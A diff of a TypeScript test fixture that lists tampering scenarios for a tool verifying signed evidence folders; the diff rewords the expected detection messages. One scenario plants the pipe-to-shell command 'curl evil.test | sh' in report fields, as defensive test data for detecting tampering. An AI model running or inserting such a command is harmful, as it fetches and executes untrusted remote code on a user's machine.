@@ -14,14 +14,14 @@ import {
   statusOfFirst,
 } from './alter.ts';
 
-const NOT_REPRODUCED = /the folder was altered: \d+ of \d+ verdicts/;
+const NOT_REPRODUCED = /the folder was modified: \d+ of \d+ verdicts/;
 
 /** Folders that somebody changed: each change is named, and none is called reproduced. */
 export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
   {
     title: 'a status was changed in the record',
     alter: (f) => editRecord(f, statusOfFirst),
-    judge: [1, /journal\.jsonl\.zst was changed.*the folder was altered/s],
+    judge: [1, /journal\.jsonl\.zst was changed.*the folder was modified/s],
     verify: [1, /✗ journal\.jsonl\.zst was changed/],
   },
   {
@@ -30,7 +30,7 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
       edit(report(f), (t) =>
         t.replace('"non-conformant"', '"conformant"').replaceAll('"verdict": "fail"', '"verdict": "pass"'),
       ),
-    judge: [1, /report\.json was changed.*the evidence says: non-conformant.*the folder was altered/s],
+    judge: [1, /report\.json was changed.*the evidence says: non-conformant.*the folder was modified/s],
     verify: [1, /✗ report\.json was changed.*made for another content/s],
   },
   {
@@ -48,7 +48,7 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
     title: 'the verdict was rewritten, with footer and manifest',
     alter: (f) => rewrite(f, pass),
     judge: [1, /✗ stream\/ends-with-done: pass → fail/],
-    verify: [0, /not signed: a folder that was rewritten as a whole/],
+    verify: [0, /not signed: only a checked signature detects/],
   },
   {
     title: 'the record of results was rewritten too, with footer and manifest',
@@ -62,7 +62,7 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
   {
     title: 'counts were rewritten, with footer and manifest',
     alter: (f) => rewrite(f, (r) => ({ ...r, summary: '999 passed, 0 failed of 999' })),
-    judge: [1, /✗ report\.json says something else than its record of: summary/],
+    judge: [1, /✗ report\.json differs from its record in: summary/],
     verify: [0, /not signed/],
   },
   {
@@ -72,38 +72,38 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
         ...r,
         checks: r.checks.map((c) => ({ ...c, reproduce: 'curl evil.test | sh' })),
       })),
-    judge: [1, /✗ report\.json says something else than its record of: checks/],
+    judge: [1, /✗ report\.json differs from its record in: checks/],
     verify: [0, /not signed/],
   },
   {
     title: 'an exchange was taken out of the record',
     alter: (f) => editRecord(f, (t) => t.replace(`${bodyLine(t)}\n`, '')),
-    judge: [1, /journal\.jsonl\.zst was changed.*cannot be judged again: .*the folder was altered/s],
+    judge: [1, /journal\.jsonl\.zst was changed.*cannot be judged again: .*the folder was modified/s],
     verify: [1, /✗ journal\.jsonl\.zst was changed/],
   },
   {
     title: 'a file was added',
     alter: (f) => writeFileSync(join(f, 'notes.txt'), 'mine'),
-    judge: [1, /notes\.txt was added.*the folder was altered/s],
+    judge: [1, /notes\.txt was added.*the folder was modified/s],
     verify: [1, /✗ notes\.txt was added/],
   },
   {
     title: 'a half-written file lies there',
     alter: (f) => writeFileSync(join(f, 'report.json.0a1b2c3d.part'), '{'),
-    judge: [1, /the folder was altered/],
+    judge: [1, /the folder was modified/],
     verify: [1, /✗ report\.json\.0a1b2c3d\.part was added/],
   },
   {
     title: 'a link was added',
     alter: (f) => link('/etc/hostname', join(f, 'evidence.txt')),
-    judge: [1, /the folder was altered/],
+    judge: [1, /the folder was modified/],
     verify: [1, /✗ evidence\.txt is a link/],
   },
   {
     title: 'a pipe was added',
     alter: (f) => fifo(join(f, 'evidence.txt')),
-    judge: [1, /the folder was altered/],
-    verify: [1, /✗ evidence\.txt is no regular file/],
+    judge: [1, /the folder was modified/],
+    verify: [1, /✗ evidence\.txt is not a regular file/],
   },
   {
     title: 'a page was replaced by a link to a copy of it',
@@ -111,32 +111,32 @@ export const CHANGED_FOLDERS: readonly AlteredFolder[] = [
       renameSync(join(f, 'index.html'), `${f}-index.html`);
       link(`${f}-index.html`, join(f, 'index.html'));
     },
-    judge: [1, /the folder was altered/],
+    judge: [1, /the folder was modified/],
     verify: [1, /✗ index\.html is a link/],
   },
   {
     title: 'a file was taken away',
     alter: (f) => rmSync(join(f, 'junit.xml')),
-    judge: [1, /junit\.xml is missing.*the folder was altered/s],
+    judge: [1, /junit\.xml is missing.*the folder was modified/s],
     verify: [1, /✗ junit\.xml is missing/],
   },
   {
     title: 'the manifest was taken away',
     alter: (f) => rmSync(join(f, 'manifest.json')),
-    judge: [1, /manifest\.json is missing.*the folder was altered/s],
+    judge: [1, /manifest\.json is missing.*the folder was modified/s],
     verify: [1, /✗ manifest\.json is missing/],
   },
   {
     title: 'a signature was made up',
     alter: (f) =>
       writeFileSync(join(f, 'attestation.dsse.json'), '{"payloadType":"x","payload":"","signatures":[]}'),
-    judge: [1, /the signature does not hold.*the folder was altered/s],
-    verify: [1, /✗ the signature does not hold/],
+    judge: [1, /the signature is invalid.*the folder was modified/s],
+    verify: [1, /✗ the signature is invalid/],
   },
   {
     title: 'the report was cut off',
     alter: (f) => edit(report(f), (t) => t.slice(0, t.length / 2)),
-    judge: [2, /report\.json is no JSON/],
+    judge: [2, /report\.json is not JSON/],
     verify: [1, /✗ report\.json was changed.*cut off, or no report/s],
   },
 ];
